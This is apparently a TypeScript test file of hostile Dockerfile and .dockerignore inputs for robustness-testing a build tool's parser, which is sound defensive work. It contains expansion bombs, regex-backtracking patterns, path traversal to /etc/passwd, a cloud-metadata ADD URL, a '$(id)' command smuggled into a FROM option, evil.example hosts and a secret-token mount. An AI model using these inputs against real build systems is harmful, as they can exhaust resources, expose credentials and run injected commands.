// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of a Dockerfile.
import { config, dockerfile, type HostileCase } from '../checkout.ts'
import { payloads } from '../payloads.ts'

const double = Array.from({ length: 40 }, (_, index) => `ARG A${index + 1}=\${A${index}}\${A${index}}`).join('\n')
const long = (text: string): string => text.repeat(Math.ceil(100_000 / text.length))

/** How time grows with the number of instructions is tested elsewhere; here a few thousand do. */
const texts: Readonly<Record<string, string | Buffer>> = {
  nothing: '',
  blanks: long(' '),
  'line ends': long('\n'),
  comments: long('#\n'),
  'a NUL': 'FROM a\0b\n',
  noise: Buffer.from(Array.from({ length: 50_000 }, (_, index) => (index * 104_729) % 256)),
  'UTF-16': Buffer.from('\uFEFFFROM a\n', 'utf16le'),
  'a million laughs of ARG': `ARG A0=xxxxxxxx\n${double}\nFROM $A40\n`,
  'a million laughs of ENV': `FROM a\nENV A0=xxxxxxxx\n${double.replaceAll('ARG', 'ENV')}\nLABEL x=$A40 y=\${A40}\n`,
  'a million laughs of labels': `FROM a\nARG A0=xxxxxxxx\n${double}\nLABEL x="$A40" y="$A39$A40"\n`,
  'an ARG of itself': 'ARG A=$A$A\nFROM $A\n',
  'ARGs of each other': 'ARG A=$B\nARG B=$A\nFROM $A$B\n',
  'nested defaults': `ARG A\nFROM ${'${A:-'.repeat(5000)}x${'}'.repeat(5000)}\n`,
  'defaults that do not end': `FROM ${long('${A:-')}\n`,
  dollars: `FROM ${long('$')}\n`,
  modifiers: 'ARG A=abcabc\nFROM ${A#*a}${A##*a*b*c*}${A%b*}${A%%*b*}${A/a/b}${A//[a-z]*/x}${A?no}${A:+x}\n',
  'modifiers of hostile patterns': `ARG A=${'a'.repeat(30_000)}b\nFROM x\${A##${'*a'.repeat(500)}c}\n`,
  'an option in FROM': 'FROM --platform=$BUILDPLATFORM --mount=type=bind a\n',
  'a platform': 'FROM --platform=linux/amd64,linux/arm64 a\n',
  'a platform of another': 'FROM --platform=windows/amd64 a\n',
  'a platform of a command': 'FROM --platform=$(id) a\n',
  'an option by ARG': 'ARG BUILD_FROM="--platform=linux/386 alpine"\nFROM $BUILD_FROM\n',
  'a stage of itself': 'FROM a AS a\nFROM a AS a\nFROM a\n',
  'a stage of a stage': Array.from({ length: 2000 }, (_, index) => `FROM s${index} AS s${index + 1}`).join('\n'),
  'a thousand stages of one': `FROM a AS s\n${'FROM s AS t\n'.repeat(1000)}`,
  'a stage of names of JavaScript':
    'FROM a AS __proto__\nFROM __proto__ AS constructor\nCOPY --from=toString / /\nFROM constructor\n',
  'a base of names of JavaScript':
    'ARG __proto__=a\nARG constructor=b\nARG toString\nFROM $__proto__/$constructor$toString\n',
  'a base that is a path': 'FROM ../../etc\n',
  'a base that is an address': 'FROM https://evil.example/x\n',
  'a base with a payload': 'FROM a\u0085::error::x\n',
  'a base with a terminal sequence': 'FROM \u001b[31ma\n',
  'a syntax directive': '# syntax=evil.example/frontend:1\nFROM a\n',
  'an escape directive': '# escape=`\nFROM a`\n b\n',
  'an escape that is none': '# escape=xx\nFROM a\n',
  'a thousand directives': `${long('# check=skip=all\n')}FROM a\n`,
  'here-documents': 'FROM a\nRUN <<EOF\nFROM b\nEOF\nCOPY <<-"A B" <<C /x/\nFROM c\nA B\nC\n',
  'a here-document that does not end': `FROM a\nRUN <<EOF\n${'FROM b\n'.repeat(3000)}`,
  'a here-document of blanks': `FROM a\nRUN <<EOF\n${long(' ')}\nEOF\n`,
  'a thousand here-documents': `FROM a\nRUN ${'<<A '.repeat(1500)}\n${'A\n'.repeat(1500)}`,
  'marks of here-documents': `FROM a\nRUN ${long('<<')}\n`,
  'a here-document with a hostile name': 'FROM a\nRUN <<"(a+)+$"\n(a+)+$\nRUN <<.*\n.*\n',
  'a long line': `FROM a\nRUN ${long('a')}\n`,
  'a long line of blanks': `FROM a\nRUN a${long(' ')}b\n`,
  'a long FROM': `FROM ${long('a')}\n`,
  'a long FROM of dashes': `FROM a${long('-')}\n`,
  'a long FROM of blanks': `FROM${long(' ')}a\n`,
  'a long LABEL': `FROM a\nLABEL x="${long('a')}"\n`,
  'a long LABEL of quotes': `FROM a\nLABEL ${long('"')}\n`,
  'a long LABEL of equals signs': `FROM a\nLABEL ${long('=')}\n`,
  'many labels': `FROM a\nLABEL ${Array.from({ length: 15_000 }, (_, index) => `a${index}=`).join(' ')}\n`,
  continuations: `FROM a\nRUN a ${'\\\n'.repeat(40_000)}b\n`,
  backslashes: `FROM a\nRUN ${long('\\')}\n`,
  'many instructions': `FROM a\n${'RUN a\n'.repeat(4000)}`,
  'many ARGs': `${Array.from({ length: 3000 }, (_, index) => `ARG A${index}`).join('\n')}\nFROM a\n`,
  'an ARG of many': `ARG ${Array.from({ length: 9000 }, (_, index) => `A${index}=$A${index - 1}`).join(' ')}\nFROM a\n`,
  'instructions that are none': 'FROMM a\n'.repeat(3000),
  'an instruction of 100 kB': `${long('A')} b\n`,
  'globs of COPY': `FROM a\nCOPY ${'*a'.repeat(1000)}b /\nADD ${'?*'.repeat(1000)} /\nCOPY ${'[a-'.repeat(1000)} /\nCOPY **/**/**/**/**/x /\n`,
  'slashes of COPY': `FROM a\nCOPY ${long('/')} /\n`,
  'COPY of everything outside':
    'FROM a\nCOPY ../../../etc/passwd /\nADD ../canary.txt /\nCOPY --from=../x / /\nADD http://169.254.169.254/latest /\n',
  'COPY in JSON': `FROM a\nCOPY ["${'a", "'.repeat(10_000)}", "/"]\nCMD ["${'['.repeat(1000)}]\n`,
  mounts:
    'FROM a\nRUN --mount=type=secret,id=GITHUB_TOKEN --mount=type=bind,source=/,target=/h --security=insecure --network=host id\n',
  ONBUILD: `FROM a\n${'ONBUILD '.repeat(2000)}RUN a\n`,
  HEALTHCHECK:
    'FROM a\nHEALTHCHECK --interval=99999999999h --timeout=-1s --retries=1e9 CMD x\nHEALTHCHECK --interval=1h1h1h1h CMD x\n',
  'a comment that is a command of ours': `# aicleaner-build ignore=${long('a')}\n# aicleaner-build ignore=a${long(' ')}\nFROM a\n`,
}

export const dockerfileCases: readonly HostileCase[] = [
  ...(Object.entries(texts).map(([name, text], index) => ({
    family: 'dockerfile',
    name: `the Dockerfile is ${name}`,
    write: (checkout) => void checkout.files({ 'a/config.yaml': config(), 'a/Dockerfile': text }),
    ...(index % 10 === 7 && { nasty: true as const }),
  })) satisfies HostileCase[]),
  ...(payloads.map((payload, index) => ({
    family: 'dockerfile',
    name: `a Dockerfile has ${JSON.stringify(payload.slice(0, 40))} everywhere`,
    write: (checkout) =>
      void checkout.files({
        'a/config.yaml': config(),
        [index % 2 === 0 ? 'a/Dockerfile' : 'a/Dockerfile.amd64']:
          `ARG A=${payload}\nARG B=${JSON.stringify(payload)}\nFROM ${index % 3 === 0 ? payload : 'x'} AS s\nFROM s\nENV E=${JSON.stringify(payload)}\nLABEL "${payload}"=a b=${JSON.stringify(payload)} c=$B\nCOPY ${payload} /\n`,
        'a/Dockerfile.aarch64': dockerfile,
      }),
  })) satisfies HostileCase[]),
  ...(payloads.slice(0, 20).map((payload) => ({
    family: 'dockerfile',
    name: `.dockerignore is ${JSON.stringify(payload.slice(0, 40))}`,
    write: (checkout) =>
      void checkout.files({
        'a/config.yaml': config(),
        'a/Dockerfile': dockerfile,
        'a/.dockerignore': `${payload}\n!${payload}\n**/${payload}/**\n`,
        'a/Dockerfile.dockerignore': `${payload}\n`,
      }),
  })) satisfies HostileCase[]),
]
